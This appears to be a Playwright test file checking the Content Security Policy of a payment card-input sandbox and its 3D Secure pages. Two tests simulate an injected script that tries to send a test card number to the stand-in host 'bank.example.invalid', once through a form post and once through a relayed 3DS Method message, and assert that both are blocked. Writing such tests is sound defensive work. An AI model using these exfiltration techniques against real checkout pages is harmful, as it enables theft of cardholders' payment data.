import type { Page } from '@playwright/test';
import { fileURLToPath } from 'node:url';
import { startSandbox } from '../../src/sandbox/index.js';
import { freePort } from '../support/free-port.js';
import { type CspViolation, type Servers, expect, test as base } from './fixtures.js';
import {
  CARDS,
  answerChallenge,
  cardFrame,
  cardFrameOf,
  recordRequests,
  typeCardAndPay,
  waitForConfirms,
  waitForLogged,
} from './support/checkout.js';
import { startHostServer } from './support/host-server.js';

/**
 * Issue 13: the card page allows no way out, and a strict merchant page completes a checkout, 3D Secure
 * included, with zero CSP violations, counted two ways: the `securitypolicyviolation` events of the
 * page and every frame (the `cspViolations` fixture) and the reports the browser posts to the
 * sandbox's `/_sandbox/csp-reports`, named by the host page's policy and by every frame page's
 * (`report-uri`, docs/sandbox.md).
 *
 * These tests run against a sandbox and a host of their own, so the report list holds only their
 * reports. A report may arrive after the checkout's last step, so "none arrived" is read only once a
 * sentinel has: each test ends by making the host page and the card frame break their policies on
 * purpose (an image from `https://sentinel.invalid/…`), waits for both reports, and then asserts that
 * nothing else arrived. The sentinels also prove, every time, that reports are collected at all.
 */

interface IsolatedServers extends Servers {
  reportsUrl: string;
}

const ROOT = fileURLToPath(new URL('../../', import.meta.url));

const test = base.extend<object, { isolated: IsolatedServers }>({
  isolated: [
    // eslint-disable-next-line no-empty-pattern -- Playwright reads a fixture's dependencies from its first parameter
    async ({}, use) => {
      const port = await freePort();
      const sandboxUrl = `http://localhost:${port}`;
      const sandbox = await startSandbox({ port, host: '127.0.0.1', rateLimits: false, publicUrl: sandboxUrl });
      const reportsUrl = `${sandboxUrl}/_sandbox/csp-reports`;
      const host = await startHostServer({
        pagesDir: `${ROOT}test/browser/pages`,
        elementsBundle: `${ROOT}dist/elements/svc-elements.js`,
        sandboxOrigin: sandboxUrl,
        publishableKey: sandbox.keys.publishableKey,
        cspReportUri: reportsUrl,
      });
      await use({ sandboxUrl, hostUrl: host.url, reportsUrl, ...sandbox.keys });
      await Promise.all([host.close(), sandbox.close()]);
    },
    { scope: 'worker' },
  ],
  servers: async ({ isolated }, use) => {
    await use(isolated);
  },
});

interface CspReport {
  via: string;
  documentURL: string;
  blockedURL: string;
  effectiveDirective: string;
}

async function reports(servers: IsolatedServers): Promise<CspReport[]> {
  const response = await fetch(servers.reportsUrl);
  expect(response.status).toBe(200);
  return ((await response.json()) as { data: CspReport[] }).data;
}

/** Makes the host page and the card frame each break their policy once, with an image no policy allows. */
async function breakPoliciesOnPurpose(page: Page, tag: string): Promise<string[]> {
  const urls = [`https://sentinel.invalid/${tag}/host`, `https://sentinel.invalid/${tag}/card-frame`];
  const load = (url: string) => {
    new Image().src = url;
  };
  await page.evaluate(load, urls[0]!);
  await (await cardFrameOf(page)).evaluate(load, urls[1]!);
  return urls;
}

/** Waits until the sentinels' reports have arrived, and returns every other report received since `from`. */
async function reportsBeside(servers: IsolatedServers, sentinels: string[], from: number): Promise<CspReport[]> {
  let received: CspReport[] = [];
  const missing = async () => {
    received = (await reports(servers)).slice(from);
    return sentinels.filter((url) => !received.some((report) => report.blockedURL.startsWith(url)));
  };
  await expect.poll(missing, { timeout: 90_000 }).toEqual([]);
  return received.filter((report) => !report.blockedURL.startsWith('https://sentinel.invalid/'));
}

/** The sentinels' own events, which the fixture records like any other. */
const besideSentinels = (violations: CspViolation[]) =>
  violations.filter((violation) => !violation.blockedURI.startsWith('https://sentinel.invalid/'));

test.describe('the card page allows no way out (issue 13)', () => {
  test('from the card frame, a form posting the card number to another https host is refused by its CSP, and nothing is sent', async ({
    page,
    startCheckout,
    consoleErrors,
  }) => {
    const requests = recordRequests(page);
    await startCheckout();
    const frame = await cardFrameOf(page);
    // What an injected script would do; before issue 13 the page's form-action allowed any https: host.
    await frame.evaluate(() => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = 'https://bank.example.invalid/form';
      const input = document.createElement('input');
      input.name = 'number';
      input.value = '4242424242424242';
      form.append(input);
      document.body.append(form);
      form.submit();
    });
    // Chromium names the refusal in the frame's console (the submission raises no event the fixture sees).
    await expect
      .poll(() => consoleErrors.filter((line) => line.includes("'https://bank.example.invalid/form'") && line.includes(`"form-action 'none'"`)))
      .toHaveLength(1);
    expect(requests.filter((request) => request.url.includes('bank.example.invalid'))).toEqual([]);
  });

  test("its policy: frame-src 'self', form-action 'none', Trusted Types with no policy; only the 3DS pages may reach a bank", async ({ servers }) => {
    const policyOf = async (page: string) => (await fetch(`${servers.sandboxUrl}/elements/v1/${page}`)).headers.get('content-security-policy') ?? '';
    const card = await policyOf('card-frame.html');
    expect(card).toContain("frame-src 'self';");
    expect(card).toContain("form-action 'none';");
    // No bare scheme (frame-ancestors lists loopback origins, `https://localhost:*`, which is not one).
    expect(card).not.toMatch(/\bhttps?:(?!\/\/)/);
    for (const page of ['3ds-method.html', '3ds-container.html']) {
      expect(await policyOf(page)).toContain("frame-src 'self' https:;");
      expect(await policyOf(page)).toContain("form-action 'self' https:;");
    }
    for (const page of ['card-frame.html', '3ds-method.html', '3ds-container.html', '3ds-notification.html']) {
      expect(await policyOf(page)).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
    }
  });
});

test.describe('the 3DS Method page is no relay (issue 13)', () => {
  test('told to run by a script in the card frame, with a bank address and data of its own, it posts nothing: it reads the payment from the service, which has no Method to run', async ({
    page,
    startCheckout,
    servers,
    consoleErrors,
  }) => {
    const requests = recordRequests(page);
    const { paymentId, clientSecret } = await startCheckout();
    const frame = await cardFrameOf(page);
    // What an injected script would try: the method page with a start message that also names an
    // address and data (fields the schema does not have), for a payment that needs no 3DS Method.
    await frame.evaluate(
      ([paymentId, clientSecret, publishableKey]) => {
        const iframe = document.createElement('iframe');
        iframe.addEventListener('load', () =>
          iframe.contentWindow?.postMessage(
            {
              protocol: 'svc-elements',
              version: 1,
              type: '3ds-method-start',
              paymentId,
              clientSecret,
              publishableKey,
              methodUrl: 'https://bank.example.invalid/method',
              threeDSMethodData: '4242424242424242',
            },
            location.origin,
          ),
        );
        iframe.src = '3ds-method.html';
        document.body.append(iframe);
      },
      [paymentId, clientSecret, servers.publishableKey],
    );
    // The page read the payment and said it had nothing to run: it is done with the message.
    await expect.poll(() => consoleErrors.filter((line) => line.includes('no 3DS Method to run here'))).toHaveLength(1);
    expect(requests.filter((request) => request.url.includes(`/v1/payments/${paymentId}?client_secret=`))).toHaveLength(1);
    expect(requests.filter((request) => request.url.includes('bank.example.invalid') || request.url.endsWith('/3ds/v1/method'))).toEqual([]);
  });
});

test.describe('a strict merchant page, with every violation reported', () => {
  test("default-src 'none', the service only in frame-src and connect-src, Trusted Types: a 3DS challenge and a 3DS Method complete with no violation, by event or by report", async ({
    page,
    hostPage,
    createPayment,
    servers,
    cspViolations,
    consoleErrors,
  }) => {
    test.setTimeout(150_000);
    const from = (await reports(servers as IsolatedServers)).length;
    for (const [index, number] of [CARDS.threeDSChallenge, CARDS.threeDSFrictionless].entries()) {
      const { clientSecret } = await createPayment();
      const response = await page.goto(hostPage('checkout.html', { clientSecret, query: { 'trusted-types': '' } }));
      if (index === 0) {
        const policy = response!.headers()['content-security-policy']!;
        expect(policy).toMatch(/^default-src 'none';/);
        expect(policy).toContain(`frame-src ${servers.sandboxUrl};`);
        expect(policy).toContain(`connect-src 'self' ${servers.sandboxUrl};`);
        expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
        expect(policy).toMatch(new RegExp(`; report-uri ${(servers as IsolatedServers).reportsUrl}$`));
        expect(policy).not.toMatch(/unsafe-inline|unsafe-eval/);
      }
      await waitForLogged(page, 'svc-ready');
      await typeCardAndPay(page, cardFrame(page), { number });
      if (number === CARDS.threeDSChallenge) await answerChallenge(page, '123456');
      const [confirm] = await waitForConfirms(page);
      expect(confirm).toMatchObject({ outcome: { outcome: 'completed' } });
    }
    const sentinels = await breakPoliciesOnPurpose(page, 'checkout');
    expect(await reportsBeside(servers as IsolatedServers, sentinels, from)).toEqual([]);
    expect(besideSentinels(cspViolations)).toEqual([]);
    expect(consoleErrors.filter((line) => !line.includes('sentinel.invalid'))).toEqual([]);
  });

  test("a nonce-based script policy (script-src 'nonce-…' 'strict-dynamic', no host list): the script-tag file from the service passes its nonce to the chunks it preloads, and a 3DS challenge completes with no violation", async ({
    page,
    hostPage,
    createPayment,
    servers,
    cspViolations,
    consoleErrors,
  }) => {
    const from = (await reports(servers as IsolatedServers)).length;
    const nonce = 'bm9uY2UtZm9yLXNjcmlwdHM';
    const { clientSecret } = await createPayment();
    const response = await page.goto(hostPage('script-tag-nonce.html', { clientSecret, query: { 'script-nonce': nonce, 'trusted-types': '' } }));
    expect(response!.headers()['content-security-policy']).toContain(`script-src 'nonce-${nonce}' 'strict-dynamic';`);
    await waitForLogged(page, 'svc-ready');
    await typeCardAndPay(page, cardFrame(page), { number: CARDS.threeDSChallenge });
    await answerChallenge(page, '123456');
    const [confirm] = await waitForConfirms(page);
    expect(confirm).toMatchObject({ outcome: { outcome: 'completed' } });
    // The dialog's chunk came through a checked preload that carries the page's nonce.
    const preloads = await page.evaluate(() =>
      [...document.querySelectorAll<HTMLLinkElement>('link[rel="modulepreload"]')].map((link) => ({
        nonce: link.nonce,
        integrity: link.integrity !== '',
      })),
    );
    expect(preloads.length).toBeGreaterThan(0);
    expect(preloads.every((link) => link.nonce === nonce && link.integrity)).toBe(true);
    const sentinels = await breakPoliciesOnPurpose(page, 'nonce');
    expect(await reportsBeside(servers as IsolatedServers, sentinels, from)).toEqual([]);
    expect(besideSentinels(cspViolations)).toEqual([]);
    expect(consoleErrors.filter((line) => !line.includes('sentinel.invalid'))).toEqual([]);
  });

  test('the collection works: a deliberate violation in the host page and in the card frame is an event and a report, naming page and directive', async ({
    page,
    startCheckout,
    servers,
    cspViolations,
  }) => {
    const from = (await reports(servers as IsolatedServers)).length;
    await startCheckout({ query: { 'trusted-types': '' } });
    const sentinels = await breakPoliciesOnPurpose(page, 'negative');
    await expect.poll(() => cspViolations.filter((v) => v.blockedURI.startsWith('https://sentinel.invalid/')).length).toBe(2);
    await reportsBeside(servers as IsolatedServers, sentinels, from);
    const received = (await reports(servers as IsolatedServers)).slice(from).filter((r) => r.blockedURL.startsWith('https://sentinel.invalid/'));
    expect(received.map((r) => [r.effectiveDirective, new URL(r.documentURL).pathname, r.blockedURL]).sort()).toEqual([
      ['img-src', '/checkout.html', sentinels[0]],
      ['img-src', '/elements/v1/card-frame.html', sentinels[1]],
    ]);
  });
});
